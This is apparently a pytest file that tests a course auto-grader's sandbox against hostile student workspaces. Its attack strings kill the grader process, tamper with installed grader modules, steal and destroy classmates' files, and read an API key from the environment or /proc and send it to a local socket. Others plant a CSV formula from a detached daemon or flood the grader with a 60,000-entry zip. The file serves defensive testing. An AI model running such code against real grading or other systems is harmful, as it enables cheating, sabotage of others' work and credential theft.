"""Issue 17's attacks on `workshop class grade`, each from a student's rover/__init__.py (it runs when the grader
imports the workspace), each through the real command, each against whatever boundary `require()` chose.

Each docstring names the defence the test relies on: bubblewrap's namespaces and read-only kit
(grader.boundary.side), or the per-student processes of bulk grading.
"""
from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

from grader.course import kit

from grader.boundary.side import NoBoundary, require

try:
    BOUNDARY = require() == "bwrap"
except NoBoundary:
    BOUNDARY = False
needs_bwrap = pytest.mark.skipif(not BOUNDARY, reason="relies on the bwrap boundary, which cannot run here")
OWN = sum(check.points for check in kit.lesson(1).checks)
ANCESTORS = '''
import os, signal
def _ancestors():
    pid = os.getppid()
    while pid > 1:
        try:
            yield pid, open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
'''


def _room(workspace, tmp_path: Path, attack: str) -> Path:
    """mallory (lesson 1 unsolved, with the attack), bob (solved), carol (unsolved): one class folder."""
    room = tmp_path / "class"
    room.mkdir()
    workspace(1).rename(room / "mallory")
    workspace(1, solved=True).rename(room / "bob")
    workspace(1).rename(room / "carol")
    init = room / "mallory" / "rover" / "__init__.py"
    init.write_text(init.read_text() + ANCESTORS + attack)
    return room


def _grade(room: Path, tmp_path: Path, watch=None, **env: str) -> dict[str, dict]:
    """`workshop class grade` on the room; `watch(process)` is called every 0.2 s while it runs."""
    grading = subprocess.Popen([sys.executable, "-m", "grader.cli", "class", "grade", str(room), "--lesson", "1", "--jobs", "2",
                                "--json", str(tmp_path / "c.json"), "--csv", str(tmp_path / "c.csv")],
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env={**os.environ, **env})
    deadline = time.monotonic() + 900
    while grading.poll() is None and time.monotonic() < deadline:
        if watch:
            watch(psutil.Process(grading.pid))
        time.sleep(0.2)
    _, err = grading.communicate(timeout=60)
    assert grading.returncode == 1, err
    return {student["name"]: student for student in json.loads((tmp_path / "c.json").read_text())["students"]}


def _classmates_right(rows: dict[str, dict]) -> None:
    assert rows["bob"]["grade"]["score"] == OWN and rows["bob"]["grade"]["passed"], rows["bob"]
    assert rows["carol"]["grade"]["score"] == 0 and rows["carol"]["grade"]["max_score"] == OWN, rows["carol"]


def _mallory_earned_nothing(rows: dict[str, dict]) -> None:
    mallory = rows["mallory"]
    assert mallory["grade"] is None or mallory["grade"]["score"] == 0, mallory


def test_a_workspace_that_kills_the_process_grading_it_loses_only_its_own_row(workspace, tmp_path):
    """Relies on one `workshop check` process per student (no shared pool): killing it ends one row."""
    attack = '''
for pid, command in _ancestors():
    if b"check" in command and b"--json" in command:
        os.kill(pid, signal.SIGKILL)
'''
    rows = _grade(_room(workspace, tmp_path, attack), tmp_path)
    _classmates_right(rows)
    _mallory_earned_nothing(rows)
    if not BOUNDARY:  # today's process sandbox lets it see its grader: the row says what happened
        assert "killed" in rows["mallory"]["problem"], rows["mallory"]


@needs_bwrap
def test_a_workspace_that_rewrites_an_installed_grader_module_changes_nothing(workspace, tmp_path):
    """Relies on bwrap's read-only kit. The module is restored by the test whatever happens."""
    import grader.grading.checks.lesson_1 as target

    path = Path(target.__file__)
    before = path.read_bytes()
    attack = f'''
try:
    with open({str(path)!r}, "a") as module:
        module.write("\\nraise SystemExit('rewritten by a student')\\n")
except OSError:
    pass
'''
    try:
        rows = _grade(_room(workspace, tmp_path, attack), tmp_path)
        assert hashlib.sha256(path.read_bytes()).digest() == hashlib.sha256(before).digest(), "the installed kit changed"
        _classmates_right(rows)
    finally:
        path.write_bytes(before)


@needs_bwrap
def test_a_workspace_cannot_take_a_classmates_file_or_destroy_theirs(workspace, tmp_path):
    """Relies on private copies (its own folder is a copy in the run folder) and bwrap (the class folder and other
    students' copies are outside its view; its grader's command line, which names the class folder, is hidden)."""
    attack = '''
import pathlib, shutil
for pid, command in _ancestors():
    for part in command:
        room = pathlib.Path(part.decode(errors="replace"))
        if (room / "bob" / "rover").is_dir():
            shutil.copy(room / "bob" / "rover" / "tools" / "read.py", pathlib.Path(__file__).parent / "tools" / "read.py")
            for victim in (room / "carol" / "rover" / "tools").glob("*.py"):
                victim.write_text("destroyed")
'''
    room = _room(workspace, tmp_path, attack)
    carol_before = {path.name: path.read_bytes() for path in (room / "carol" / "rover" / "tools").glob("*.py")}
    rows = _grade(room, tmp_path)
    _mallory_earned_nothing(rows)
    assert {path.name: path.read_bytes() for path in (room / "carol" / "rover" / "tools").glob("*.py")} == carol_before


class _Listener:
    """A socket on 127.0.0.1 that keeps whatever arrives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = b""
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        self.server.settimeout(0.5)
        while self.server.fileno() != -1:
            try:
                connection, _ = self.server.accept()
            except (OSError, socket.timeout):
                continue
            with connection:
                connection.settimeout(2)
                try:
                    while chunk := connection.recv(4096):
                        self.received += chunk
                except OSError:
                    pass

    def close(self):
        self.server.close()


@pytest.mark.parametrize("where", ["its own environment", pytest.param("its graders' environments", marks=needs_bwrap)])
def test_a_workspace_cannot_send_the_api_key_anywhere(workspace, tmp_path, where):
    """Its own environment: relies on the allow-listed environment of each student's grading process (no key in it).
    Its graders' environments (through /proc): relies on bwrap's PID namespace; that nothing arrives at all, on its
    network namespace."""
    canary = f"sk-ant-canary-{os.urandom(6).hex()}"
    listener = _Listener()
    read = ("key = os.environ.get('ANTHROPIC_API_KEY', '')\n" if where == "its own environment" else
            "key = ''.join(open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace') for pid, _ in _ancestors())\n")
    attack = f'''
import socket
{read}try:
    with socket.create_connection(("127.0.0.1", {listener.port}), timeout=2) as out:
        out.sendall(b"key:" + key.encode())
except OSError:
    pass
'''
    try:
        rows = _grade(_room(workspace, tmp_path, attack), tmp_path, ANTHROPIC_API_KEY=canary)
        time.sleep(0.5)
        assert canary.encode() not in listener.received
        if BOUNDARY:
            assert listener.received == b"", "no network at all inside the boundary"
        _classmates_right(rows)
    finally:
        listener.close()


def test_a_process_left_behind_cannot_outlive_the_run_or_touch_the_report(workspace, tmp_path):
    """The forkserver attack's aim (a process with no limits and no run mark that rewrites the CSV later), tried the
    only way left: there is no pool or forkserver to hand a pickle to, so it double-forks a daemon in a new session
    with an empty environment. Relies on the graders' subreaper sweeps and the run's own (orphans come to it)."""
    marker = f"left-behind-{os.urandom(4).hex()}"
    attack = f'''
import subprocess, sys, pathlib
csv_path = None
for pid, command in _ancestors():
    if b"--csv" in command:
        csv_path = command[command.index(b"--csv") + 1].decode()
if os.fork() == 0:
    os.setsid()
    code = "import sys, time; time.sleep(3); open(sys.argv[1], 'w').write('=HYPERLINK(1)')" if csv_path else "import time; time.sleep(3)"
    subprocess.Popen([sys.executable, "-c", code, csv_path or "-", {marker!r}], env={{}}, start_new_session=True)
    os._exit(0)
'''
    room = _room(workspace, tmp_path, attack)
    seen_forkserver = []

    def watch(grading: psutil.Process) -> None:
        try:
            below = grading.children(recursive=True)
        except psutil.Error:
            return
        for process in below:
            try:
                if "forkserver" in " ".join(process.cmdline()):
                    seen_forkserver.append(process.pid)
            except psutil.Error:
                pass

    rows = _grade(room, tmp_path, watch)
    time.sleep(4)
    assert not [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])], "a process outlived the run"
    assert not seen_forkserver, "no process pool (forkserver) exists any more"
    lines = list(csv.DictReader((tmp_path / "c.csv").open()))
    assert [line["student"] for line in lines] == ["bob", "carol", "mallory"]
    _classmates_right(rows)


def test_a_zip_of_60000_empty_entries_is_one_row_through_the_command(workspace, tmp_path):
    """Relies on the entry count read from the zip's end record before anything is unpacked."""
    import zipfile

    room = tmp_path / "class"
    room.mkdir()
    workspace(1, solved=True).rename(room / "bob")
    with zipfile.ZipFile(room / "flood.zip", "w") as bundle:
        for index in range(60_000):
            bundle.writestr(f"f{index}", b"")
    done = subprocess.run([sys.executable, "-m", "grader.cli", "class", "grade", str(room), "--json", str(tmp_path / "c.json")],
                          capture_output=True, text=True, timeout=600)
    rows = {student["name"]: student for student in json.loads((tmp_path / "c.json").read_text())["students"]}
    assert done.returncode == 1 and "more than 10,000 entries" in rows["flood"]["problem"]
    assert rows["bob"]["grade"]["passed"]
